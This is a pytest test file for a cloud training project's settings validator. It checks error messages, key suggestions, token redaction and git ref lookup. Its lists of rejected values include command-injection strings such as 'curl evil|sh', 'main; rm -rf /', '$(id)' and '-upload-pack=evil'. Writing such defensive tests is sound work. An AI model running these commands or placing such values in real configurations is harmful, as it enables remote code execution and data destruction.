"""core/settings.py: every bad value fails with one line naming the key, the value and what is allowed, whatever
its type; an unknown key names the closest setting; the defaults are cdk.json's; the one context loader
(cdk.json + -c key=value); trainArgs through a given parser, gitRef through a given lookup."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from training.cloud.core.context import cdk_context_args, check_context_keys, load_context, read_settings
from training.cloud.core.settings import DEFAULTS, RunConfig
from training.errors import ConfigError

ROOT = Path(__file__).resolve().parents[4]
GOOD: dict[str, Any] = {"repoUrl": "https://git.example.com/team/spotgrade.git"}


def load(**overrides: Any) -> RunConfig:
    context = {**GOOD, **overrides}
    return RunConfig.from_context(context.get)


BAD_VALUES = [
    ("instanceTypes", ["g5.xlarge", "not a type"]),
    ("instanceTypes", "g5.xlarge;reboot"),
    ("instanceTypes", []),
    ("instanceTypes", "g5.xlarge,g5.xlarge"),
    ("maxRuntimeHours", -1),
    ("maxRuntimeHours", "0"),
    ("maxRuntimeHours", "eight"),
    ("maxRuntimeHours", 100),
    ("dataUri", "https://example.com/loans.csv"),
    ("dataUri", "s3://Bad_Bucket/loans.csv"),
    ("dataUri", "s3://bucket/$(reboot).csv"),
    ("repoUrl", "https://x/y.git;curl evil|sh"),
    ("repoUrl", "https://user:token@git.example.com/team/repo.git"),
    ("repoUrl", "http://git.example.com/team/repo.git"),
    ("repoUrl", "git@git.example.com:team/repo.git"),
    ("gitRef", "main; rm -rf /"),
    ("gitRef", "$(id)"),
    ("gitRef", "-upload-pack=evil"),
    ("gitRef", "feature/../../x"),
    ("trainArgs", "--epochs 3; curl evil | sh"),
    ("trainArgs", "--epochs `id`"),
    ("trainArgs", "--epochs $HOME"),
    ("trainArgs", "--output /tmp/x"),
    ("trainArgs", "--out=/tmp/x"),
    ("trainArgs", "--run-i other"),
    ("trainArgs", "positional"),
    ("trainArgs", "--epochs 'unbalanced"),
    ("capacity", "reserved"),
    ("maxSpotPrice", "-0.2"),
    ("maxSpotPrice", "cheap"),
    ("rootVolumeGiB", 20),
    ("rootVolumeGiB", "100.5"),
    ("runId", "run id with spaces"),
    ("runId", "-starts-with-dash"),
    ("amiParameter", "ami-0123456789abcdef0"),
    ("artifactBucket", "UPPER_case"),
    ("retainArtifacts", "maybe"),
    ("logRetentionDays", 10),
    ("checkpointExpiryDays", 0),
    ("stackName", "1-starts-with-digit"),
    ("notifyEmail", "me@example.com; rm -rf /"),
    ("notifyEmail", "not-an-address"),
    ("notifyEmail", "a@b"),
    ("notifyEmail", ["a@example.com"]),
    ("heartbeatMinutes", 4),
    ("heartbeatMinutes", 121),
    ("heartbeatMinutes", "7.5"),
    ("heartbeatMinutes", "often"),
]


@pytest.mark.parametrize(("key", "value"), BAD_VALUES, ids=[f"{k}={v!r}" for k, v in BAD_VALUES])
def test_bad_value_fails_with_one_line_naming_key(key: str, value: Any) -> None:
    with pytest.raises(ConfigError) as err:
        load(**{key: value})
    message = str(err.value)
    assert "\n" not in message
    assert message.startswith(f"context key '{key}': ")
    assert "expected" in message and f"-c {key}=" in message


def test_defaults_give_a_valid_config_and_match_cdk_json() -> None:
    config = load()
    assert config.instance_types == ("g4dn.xlarge", "g5.xlarge", "g6.xlarge")
    assert config.capacity == "spot" and config.max_spot_price is None
    assert config.data_uri == "" and config.data_location is None
    assert config.asg_name == "Spotgrade-default" and config.run_prefix == "runs/default/"
    context = json.loads((ROOT / "cdk.json").read_text())["context"]
    assert context == {**DEFAULTS, "cli-telemetry": False}  # every key, and nothing else


def test_cli_strings_are_parsed() -> None:
    config = load(instanceTypes='["g5.xlarge", "g6e.xlarge"]', maxSpotPrice="0.5", maxRuntimeHours="2.5",
                  rootVolumeGiB="200", retainArtifacts="false", logRetentionDays="90",
                  trainArgs="--epochs=5  --features reference", dataUri="s3://lc-data/raw/20*.csv.gz")
    assert config.instance_types == ("g5.xlarge", "g6e.xlarge")
    assert (config.max_spot_price, config.max_runtime_hours, config.root_volume_gib) == (0.5, 2.5, 200)
    assert config.retain_artifacts is False and config.log_retention_days == 90
    assert config.train_args == "--epochs=5 --features reference"
    assert config.data_location == ("lc-data", "raw/20")  # IAM prefix stops at the glob


def test_notification_and_heartbeat_settings() -> None:
    assert (load().notify_email, load().heartbeat_minutes) == (None, 15)
    config = load(notifyEmail="ml-team+runs@example.co.uk", heartbeatMinutes="30")
    assert (config.notify_email, config.heartbeat_minutes) == ("ml-team+runs@example.co.uk", 30)
    assert load(notifyEmail="  ").notify_email is None  # `-c notifyEmail=` means no email
    assert (load(heartbeatMinutes=5).heartbeat_minutes, load(heartbeatMinutes=120).heartbeat_minutes) == (5, 120)


def test_spot_price_refused_with_on_demand() -> None:
    with pytest.raises(ConfigError, match="maxSpotPrice.*capacity=on-demand"):
        load(capacity="on-demand", maxSpotPrice="0.4")


def test_checkpoint_expiry_must_outlast_the_run() -> None:
    with pytest.raises(ConfigError, match="checkpointExpiryDays"):
        load(maxRuntimeHours=72, checkpointExpiryDays=3)
    assert load(maxRuntimeHours=72, checkpointExpiryDays=4).checkpoint_expiry_days == 4


def test_a_value_with_a_trailing_line_break_is_refused() -> None:
    """Patterns match the whole value (a `$` anchor let "exp-7\\n" through before)."""
    for key, value in (("runId", "exp-7\n"), ("gitRef", "main\n"), ("stackName", "Spotgrade\n")):
        with pytest.raises(ConfigError, match=f"context key '{key}'"):
            load(**{key: value})


def test_the_default_repo_url_is_asked_only_without_one() -> None:
    asked = []

    def origin() -> str:
        asked.append(1)
        return "https://git.example.com/team/origin.git"

    assert RunConfig.from_context({}.get, default_repo_url=origin).repo_url == "https://git.example.com/team/origin.git"
    assert RunConfig.from_context(GOOD.get, default_repo_url=origin).repo_url == GOOD["repoUrl"]
    assert RunConfig.from_context({}.get).repo_url is None and len(asked) == 1


def test_run_keys_come_from_the_layout() -> None:
    config = load(runId="exp-7")
    assert config.keys.run_id == "exp-7" and config.run_prefix == config.keys.prefix == "runs/exp-7/"


# ---------------------------------------------------------------- the context loader

def test_load_context_overlays_defaults_cdk_json_and_overrides(tmp_path: Path) -> None:
    cdk_json = tmp_path / "cdk.json"
    cdk_json.write_text(json.dumps({"app": "python3 app.py", "context": {"maxRuntimeHours": 6, "runId": "r1"}}))
    context = load_context(["maxRuntimeHours=4", " gitRef =v2"], cdk_json)
    assert (context["maxRuntimeHours"], context["runId"], context["gitRef"]) == ("4", "r1", "v2")
    assert context["stackName"] == DEFAULTS["stackName"]
    assert load_context([], None) == DEFAULTS
    assert load_context([], tmp_path / "missing.json") == DEFAULTS


def test_load_context_errors(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="expected key=value"):
        load_context(["maxRuntimeHours"], None)
    with pytest.raises(ConfigError, match="expected key=value"):
        load_context(["=4"], None)
    bad = tmp_path / "cdk.json"
    bad.write_text("{")
    with pytest.raises(ConfigError, match="not valid JSON"):
        load_context([], bad)


def test_cdk_context_args_picks_every_context_form() -> None:
    args = ["--require-approval", "never", "-c", "repoUrl=https://h.example/o/r.git", "--context=runId=r2",
            "-cgitRef=v1", "--context", "capacity=spot", "Spotgrade"]
    assert cdk_context_args(args) == ["repoUrl=https://h.example/o/r.git", "runId=r2", "gitRef=v1",
                                      "capacity=spot"]
    assert cdk_context_args(["-c"]) == [""]


# ---------------------------------------------------------------- unknown keys

CDK_OWN_CONTEXT = {  # what `cdk synth` and cdk.context.json put into the app's context (CDK CLI 2.1148)
    "cli-telemetry": False, "notices": False, "acknowledged-issue-numbers": [12345],
    "aws:cdk:enable-path-metadata": True, "aws:cdk:enable-asset-metadata": True, "aws:cdk:version-reporting": True,
    "aws:cdk:bundling-stacks": ["**"], "@aws-cdk/core:failSynthOnValidationErrors": False,
    "@aws-cdk/aws-s3:serverAccessLogsUseBucketPolicy": True, "aws-cdk:enableDiffNoFail": True,
    "availability-zones:account=123456789012:region=us-east-1": ["us-east-1a"],
    "ssm:account=123456789012:parameterName=/x:region=us-east-1": "ami-1",
    "vpc-provider:account=123456789012:filter.isDefault=true:region=us-east-1": {"vpcId": "vpc-1"},
}


def test_cdks_own_context_keys_are_not_settings() -> None:
    check_context_keys([*DEFAULTS, *CDK_OWN_CONTEXT])
    config = read_settings({**DEFAULTS, **CDK_OWN_CONTEXT, **GOOD})
    assert config.repo_url == GOOD["repoUrl"]


@pytest.mark.parametrize(("key", "suggestion"), [
    ("maxRuntimeHour", "maxRuntimeHours"), ("maxruntimehours", "maxRuntimeHours"), ("instanceType", "instanceTypes"),
    ("gitref", "gitRef"), ("repoURL", "repoUrl"), ("trainargs", "trainArgs"), ("retainArtifact", "retainArtifacts"),
    ("allowUnpushed", "allowUnpushedCode"), ("repoTokenSecrets", "repoTokenSecret"),
    ("repoUrl:https://x", "repoUrl"),
])
def test_an_unknown_key_names_the_closest_setting(key: str, suggestion: str) -> None:
    with pytest.raises(ConfigError) as err:
        read_settings({**GOOD, key: "3"})
    message = str(err.value)
    assert message.startswith(f"context key '{key}' is unknown; did you mean '{suggestion}'? (known keys: stackName, ")
    assert "\n" not in message and "repoTokenSecret" in message


def test_an_unknown_key_without_a_close_setting_and_several_unknown_keys() -> None:
    with pytest.raises(ConfigError, match=r"^context key 'zzz' is unknown \(known keys: stackName, runId, "):
        check_context_keys(["runId", "zzz"])
    with pytest.raises(ConfigError, match=r"^context key 'epochs' is unknown.* \(1 more unknown: 'gpuCount'\)"):
        check_context_keys(["epochs", "gpuCount"])
    with pytest.raises(ConfigError) as err:
        check_context_keys(["line\nbreak"])
    assert str(err.value).startswith(r"context key 'line\nbreak' is unknown") and "\n" not in str(err.value)


def test_unknown_keys_are_refused_before_values() -> None:
    with pytest.raises(ConfigError, match="^context key 'maxRuntimeHour' is unknown"):
        read_settings({"maxRuntimeHour": "3", "maxRuntimeHours": "-1"})


# ---------------------------------------------------------------- every value, whatever its type

# A valid value of every setting, as `-c key=value` gives it (a string).
VALID_STRINGS = {
    "stackName": "Spotgrade", "runId": "exp-7", "instanceTypes": "g5.xlarge,g6.xlarge", "capacity": "spot",
    "maxSpotPrice": "0.9", "repoUrl": "https://git.example.com/team/spotgrade.git", "gitRef": "main",
    "dataUri": "s3://lc-data/raw/loans.csv", "trainArgs": "--epochs 40", "maxRuntimeHours": "8",
    "rootVolumeGiB": "100", "amiParameter": "/aws/service/x/ami-id", "artifactBucket": "my-bucket",
    "retainArtifacts": "true", "checkpointExpiryDays": "7", "logRetentionDays": "30",
    "notifyEmail": "me@example.com", "heartbeatMinutes": "15", "maxAttempts": "3", "allowUnpushedCode": "false",
    "repoTokenSecret": "spotgrade/github-token",
}


def test_valid_strings_cover_every_setting() -> None:
    assert set(VALID_STRINGS) == set(DEFAULTS)
    load(**VALID_STRINGS)


@pytest.mark.parametrize("key", sorted(VALID_STRINGS))
@pytest.mark.parametrize("suffix", ["\n", "\r", "\x00", "\u2028", "\t"])
def test_a_line_break_or_control_character_in_any_setting_is_refused(key: str, suffix: str) -> None:
    with pytest.raises(ConfigError) as err:
        load(**{key: VALID_STRINGS[key] + suffix})
    message = str(err.value)
    assert message.startswith(f"context key '{key}': ") and "\n" not in message and "\u2028" not in message


HOSTILE_TYPES: list[Any] = [True, False, 0, -1, 10**400, 1e308, float("nan"), float("inf"), [], ["x"], [1, 2],
                            {}, {"a": 1}, "", " ", "null", "None", "[" * 5000, "'", '"', "$(id)", "`id`", "; id",
                            "a" * 5000]


@pytest.mark.parametrize("key", sorted(DEFAULTS))
def test_no_value_of_any_type_escapes_as_anything_but_one_line(key: str) -> None:
    """Whatever cdk.json or -c holds (booleans, huge numbers, NaN, lists, objects), the answer is a config or one
    ConfigError line naming the key: never TypeError, OverflowError, RecursionError..."""
    for value in HOSTILE_TYPES:
        try:
            load(**{key: value})
        except ConfigError as err:
            message = str(err)
            assert message.startswith(f"context key '{key}': ") and "\n" not in message, (value, message)
            assert len(message) < 1200, value


def test_a_boolean_is_no_number_of_days_and_whole_floats_are_whole() -> None:
    with pytest.raises(ConfigError, match="context key 'logRetentionDays'"):
        load(logRetentionDays=True)
    config = load(logRetentionDays=30.0)
    assert config.log_retention_days == 30 and type(config.log_retention_days) is int


def test_long_values_are_cut_in_the_message() -> None:
    with pytest.raises(ConfigError) as err:
        load(gitRef="x" * 5000 + "$")
    assert len(str(err.value)) < 600 and "..." in str(err.value)


# ---------------------------------------------------------------- new settings

@pytest.mark.parametrize("secret", ["spotgrade/github-token", "a", "team_x+y=z.w@v-1", "x" * 512,
                                    "arn:aws:secretsmanager:us-east-1:123456789012:secret:spotgrade/gh-AbC123",
                                    "arn:aws-us-gov:secretsmanager:us-gov-west-1:123456789012:secret:tok-Ab12Cd",
                                    "arn:aws-cn:secretsmanager:cn-north-1:123456789012:secret:t"])
def test_repo_token_secret_takes_a_name_or_an_arn(secret: str) -> None:
    assert load(repoTokenSecret=secret).repo_token_secret == secret


@pytest.mark.parametrize("secret", ["has space", "x" * 513, "tok$(id)", "tok;id", "tok`id`", "it's", "a\\b",
                                    "arn:aws:secretsmanager:us-east-1:12345:secret:t",
                                    "arn:aws:ssm:us-east-1:123456789012:parameter/t",
                                    "arn:aws:secretsmanager:us-east-1:123456789012:secret:",
                                    "arn:aws:secretsmanager:us-east-1:123456789012:secret:a b", ["tok"], 5, True])
def test_repo_token_secret_refuses_anything_else(secret: Any) -> None:
    with pytest.raises(ConfigError, match="^context key 'repoTokenSecret': .* a Secrets Manager secret name"):
        load(repoTokenSecret=secret)


@pytest.mark.parametrize("token", ["ghp_" + "A1b2" * 9, "github_pat_11ABCDEFG_" + "aB3" * 24,
                                   "glpat-" + "x1Y2-" * 4])
def test_a_token_given_as_the_secret_name_is_refused_without_repeating_it(token: str) -> None:
    with pytest.raises(ConfigError) as err:
        load(repoTokenSecret=token)
    assert str(err.value).startswith("context key 'repoTokenSecret': the value looks like a token itself")
    assert token not in str(err.value) and token[4:20] not in str(err.value)


def test_credentials_in_repo_url_are_not_repeated() -> None:
    with pytest.raises(ConfigError) as err:
        load(repoUrl="https://me:ghp_secret123@git.example.com/team/repo.git")
    assert str(err.value).startswith("context key 'repoUrl': 'https://***@git.example.com/team/repo.git' is not "
                                     "allowed; expected an https URL without credentials")
    assert "ghp_secret123" not in str(err.value) and "me:" not in str(err.value)


def test_new_settings_default_off() -> None:
    assert load(repoTokenSecret="ghp_tokens_for_ci").repo_token_secret == "ghp_tokens_for_ci"  # a name, no token
    config = load()
    assert (config.repo_token_secret, config.allow_unpushed_code) == (None, False)
    assert load(repoTokenSecret="", allowUnpushedCode="true").allow_unpushed_code is True
    assert load(repoTokenSecret="").repo_token_secret is None


# ---------------------------------------------------------------- trainArgs through train's own parser

def test_train_args_go_through_the_given_parser() -> None:
    from training.train_flags import parse_train_flags

    def read(train_args: str) -> RunConfig:
        return RunConfig.from_context({**GOOD, "trainArgs": train_args}.get, check_train_args=parse_train_flags)

    assert read("--epochs 40 --features reference").train_args == "--epochs 40 --features reference"
    for train_args, said in [("--epohcs 40", "unrecognized arguments: --epohcs 40"),
                             ("--epochs abc", "argument --epochs: "),  # then train_flags' wording of 'abc'
                             ("--epochs 0", "argument --epochs: must be a positive integer, got 0"),
                             ("--features bogus", "argument --features: invalid choice: 'bogus'"),
                             ("--help", "unrecognized arguments: --help"),
                             ("--epochs", "argument --epochs: expected one argument")]:
        with pytest.raises(ConfigError) as err:
            read(train_args)
        assert str(err.value).startswith(f"context key 'trainArgs': {train_args!r} is not allowed; "
                                         f"`python -m training train` says: {said}"), str(err.value)
        assert str(err.value).endswith("(set it with -c trainArgs=...)")
    with pytest.raises(ConfigError, match="no --data, --output, --run-id"):  # the runner's flags, before the parser
        read("--data s3://x/y.csv")


# ---------------------------------------------------------------- gitRef -> commit

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def test_git_ref_is_resolved_once_every_value_is_valid() -> None:
    asked: list[tuple[str, str]] = []

    def resolve(url: str, ref: str) -> tuple[str | None, str | None]:
        asked.append((url, ref))
        return COMMIT.upper(), None

    config = RunConfig.from_context({**GOOD, "gitRef": "v2"}.get, resolve_commit=resolve)
    assert (config.git_commit, config.git_commit_note) == (COMMIT, None)
    assert asked == [(GOOD["repoUrl"], "v2")]
    with pytest.raises(ConfigError):
        RunConfig.from_context({**GOOD, "capacity": "cheap"}.get, resolve_commit=resolve)
    assert len(asked) == 1  # a bad setting costs no lookup


def test_git_commit_notes() -> None:
    def offline(url: str, ref: str) -> tuple[str | None, str | None]:
        return None, f"could not resolve gitRef {ref!r} to a commit on {url}: Could not resolve host"

    config = RunConfig.from_context(GOOD.get, resolve_commit=offline)
    assert config.git_commit is None and config.git_commit_note == (
        f"could not resolve gitRef 'main' to a commit on {GOOD['repoUrl']}: Could not resolve host")
    config = load()
    assert config.git_commit is None and config.git_commit_note == (
        "gitRef 'main' was not resolved to a commit (no lookup at this synth)")
    config = RunConfig.from_context({}.get, resolve_commit=offline)
    assert config.git_commit is None
    assert config.git_commit_note == "gitRef 'main' was not resolved to a commit: no repoUrl"
    config = RunConfig.from_context({"gitRef": COMMIT.upper()}.get, resolve_commit=offline)
    assert (config.git_commit, config.git_commit_note, config.git_ref) == (COMMIT, None, COMMIT.upper())
    config = RunConfig.from_context(GOOD.get, resolve_commit=lambda url, ref: ("not-a-commit", None))
    assert config.git_commit is None and config.git_commit_note is not None


# ---------------------------------------------------------------- cdk.json's shape

@pytest.mark.parametrize("text", ["[]", '"context"', '{"context": []}', '{"context": "maxRuntimeHours=3"}', "{",
                                  "[" * 100000, "\udcff"])
def test_a_cdk_json_of_the_wrong_shape_is_one_line(tmp_path: Path, text: str) -> None:
    bad = tmp_path / "cdk.json"
    bad.write_bytes(text.encode("utf-8", "surrogateescape"))
    with pytest.raises(ConfigError) as err:
        load_context([], bad)
    assert str(err.value).startswith(f"{bad}: ") and str(err.value).endswith("fix the file")
    assert "\n" not in str(err.value)
